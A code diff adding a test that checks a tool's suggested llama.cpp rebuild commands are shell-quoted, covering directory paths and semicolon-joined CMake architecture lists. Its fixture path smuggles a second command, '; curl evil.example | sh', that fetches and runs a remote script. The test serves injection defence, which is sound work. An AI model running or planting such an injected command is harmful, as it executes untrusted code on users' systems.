@@ -254,3 +254,22 @@ def qwen30b_sparse(tmp_path_factory) -> Path:
     from .test_advise_cli import sparse_qwen3_30b
 
     return sparse_qwen3_30b(tmp_path_factory.mktemp("models") / "Qwen3-30B-A3B-Q4_K.gguf")
+
+
+# ---- fix commands a user pastes (doctor) ----
+
+def test_llama_build_rebuild_commands_are_shell_quoted() -> None:
+    """The rebuild fix names the source directory (from a binary's path, which a snapshot supplies) and CMake lists
+    joined by ";" (a command separator in a shell): both are quoted."""
+    import shlex
+
+    from tunehost.checks.llama_build import _rebuild
+    from tunehost.facts.llama import LlamaBinary
+    from tunehost.parsers.llama_version import CUDA, ROCM
+
+    src = "/home/x/llama.cpp; curl evil.example | sh #"
+    binary = LlamaBinary("llama-server", f"{src}/build/bin/llama-server", "PATH")
+    fix = _rebuild(binary, ["86", "89"], [], want=CUDA)
+    assert shlex.split(fix.commands[0]) == ["cd", src, "&&", "git", "pull"]
+    assert "-DCMAKE_CUDA_ARCHITECTURES='86;89'" in fix.commands[1]
+    assert "-DGPU_TARGETS='gfx1100;gfx1151'" in _rebuild(binary, [], ["gfx1100", "gfx1151"], want=ROCM).commands[1]
